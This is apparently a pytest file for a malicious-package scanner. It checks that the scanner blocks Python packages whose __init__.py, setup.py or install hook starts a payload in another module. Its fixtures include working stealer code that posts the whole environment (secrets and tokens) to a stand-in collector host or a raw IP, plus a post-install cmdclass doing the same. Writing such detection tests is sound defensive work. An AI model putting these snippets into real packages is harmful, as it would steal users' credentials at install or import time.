"""A payload in a function of one module, started by a call in another file.

Judged alone, a function that nothing in its file calls reads as library code.
These packages start it from `__init__.py`, `setup.py` or another module, in
the ways such code is written: relative and absolute imports, module aliases,
a re-export through the package `__init__`, a chain of two modules, a thread
callback. Each must be judged as code that runs; the same package without the
starting call, or started only by a test, must not be.
"""

from __future__ import annotations

import pytest

from pycustoms.analyzers.code.analyze import analyze_package
from pycustoms.archive import Member
from pycustoms.config import Policy
from pycustoms.policy import decide
from pycustoms.types import Decision, Finding, PackageKind

WHEEL_META = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"

STEALER = """\
import os
import requests


def start():
    requests.post("https://collector.example.com/c", json=dict(os.environ), timeout=3)
"""

HELPER_CHAIN = """\
from .payload import start


def setup_logging():
    start()
"""


def _judge(kind: PackageKind, files: dict[str, str]) -> tuple[Decision, list[Finding]]:
    members = [Member(path, text.encode()) for path, text in files.items()]
    if kind is PackageKind.WHEEL:
        members.insert(0, Member("evil-1.0.dist-info/WHEEL", WHEEL_META.encode()))
    report = analyze_package(kind, members)
    return decide(report.findings, Policy()).decision, list(report.findings)


STARTERS = {
    "relative import": "from .payload import start\nstart()\n",
    "relative module": "from . import payload\npayload.start()\n",
    "absolute import": "from evil.payload import start\nstart()\n",
    "absolute alias": "import evil.payload as p\np.start()\n",
    "imported under another name": "from .payload import start as _init\n_init()\n",
    "thread callback": (
        "import threading\nfrom .payload import start\n"
        "threading.Thread(target=start, daemon=True).start()\n"
    ),
    "inside a function that runs": (
        "from .payload import start\n\ndef _boot():\n    start()\n\n_boot()\n"
    ),
}


@pytest.mark.parametrize("starter", list(STARTERS), ids=list(STARTERS))
def test_init_starting_a_payload_in_another_module_blocks(starter: str) -> None:
    files = {"evil/__init__.py": STARTERS[starter], "evil/payload.py": STEALER}
    decision, findings = _judge(PackageKind.WHEEL, files)
    assert decision is Decision.BLOCK, findings
    exfil = [f for f in findings if f.rule == "code/exfiltration"]
    assert exfil
    assert all("called from evil/__init__.py" in f.message for f in exfil)


def test_a_payload_routine_with_a_raw_ip_peer_blocks_uncalled() -> None:
    # The whole environment sent to a raw IP: malicious whether import or the user calls it.
    raw = STEALER.replace("https://collector.example.com", "http://203.0.113.50:8080")
    files = {"evil/__init__.py": "from .payload import start\n", "evil/payload.py": raw}
    decision, findings = _judge(PackageKind.WHEEL, files)
    assert decision is Decision.BLOCK, findings


def test_the_same_payload_nobody_calls_is_not_blocked() -> None:
    files = {"evil/__init__.py": "from .payload import start\n", "evil/payload.py": STEALER}
    decision, findings = _judge(PackageKind.WHEEL, files)
    assert decision is not Decision.BLOCK, findings
    assert not any("called from" in f.message for f in findings)


def test_a_test_that_calls_the_function_does_not_make_it_run() -> None:
    files = {
        "evil/__init__.py": "VERSION = 1\n",
        "evil/payload.py": STEALER,
        "tests/test_payload.py": "from evil.payload import start\nstart()\n",
    }
    decision, _ = _judge(PackageKind.SDIST, files)
    assert decision is not Decision.BLOCK


def test_setup_py_calling_a_package_helper_runs_it_at_install_time() -> None:
    files = {
        "setup.py": (
            "from setuptools import setup\nfrom evil.payload import start\n"
            "start()\nsetup(name='evil', version='1.0')\n"
        ),
        "evil/__init__.py": "",
        "evil/payload.py": STEALER,
    }
    decision, findings = _judge(PackageKind.SDIST, files)
    assert decision is Decision.BLOCK
    assert any("called from setup.py: runs at install time" in f.message for f in findings)


def test_src_layout_and_a_chain_through_two_modules() -> None:
    files = {
        "setup.py": "from setuptools import setup\nsetup(name='evil')\n",
        "src/evil/__init__.py": "from .log import setup_logging\nsetup_logging()\n",
        "src/evil/log.py": HELPER_CHAIN,
        "src/evil/payload.py": STEALER,
    }
    decision, findings = _judge(PackageKind.SDIST, files)
    assert decision is Decision.BLOCK, findings


def test_a_re_export_through_the_package_init() -> None:
    files = {
        "setup.py": "from setuptools import setup\nimport evil\nevil.start()\nsetup(name='evil')\n",
        "evil/__init__.py": "from .payload import start\n",
        "evil/payload.py": STEALER,
    }
    decision, findings = _judge(PackageKind.SDIST, files)
    assert decision is Decision.BLOCK, findings


def test_an_init_calling_a_harmless_helper_stays_clean() -> None:
    # A version helper that runs git in a function: ordinary, and calling it on import
    # must not turn the package into a block.
    files = {
        "tidy/__init__.py": "from ._version import get_version\n__version__ = get_version()\n",
        "tidy/_version.py": (
            "import subprocess\n\n\ndef get_version():\n"
            "    try:\n        out = subprocess.run(['git', 'describe', '--tags'],"
            " capture_output=True, text=True, check=False)\n"
            "        return out.stdout.strip() or '0'\n"
            "    except OSError:\n        return '0'\n"
        ),
    }
    decision, findings = _judge(PackageKind.WHEEL, files)
    assert decision is Decision.ALLOW, findings


HOOKS = """\
import os
import urllib.request
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        body = str(dict(os.environ)).encode()
        urllib.request.urlopen("https://collector.example.com/p", data=body)
"""


def test_a_cmdclass_imported_from_the_package_runs_at_install_time() -> None:
    files = {
        "setup.py": (
            "from setuptools import setup\nfrom evil.hooks import PostInstall\n"
            "setup(name='evil', cmdclass={'install': PostInstall})\n"
        ),
        "evil/__init__.py": "",
        "evil/hooks.py": HOOKS,
    }
    decision, findings = _judge(PackageKind.SDIST, files)
    assert decision is Decision.BLOCK, findings
    assert any("named by setup.py: runs at install time" in f.message for f in findings)


def test_a_class_imported_on_import_is_not_run_by_being_named() -> None:
    files = {"evil/__init__.py": "from .hooks import PostInstall\n", "evil/hooks.py": HOOKS}
    decision, findings = _judge(PackageKind.WHEEL, files)
    assert decision is not Decision.BLOCK, findings
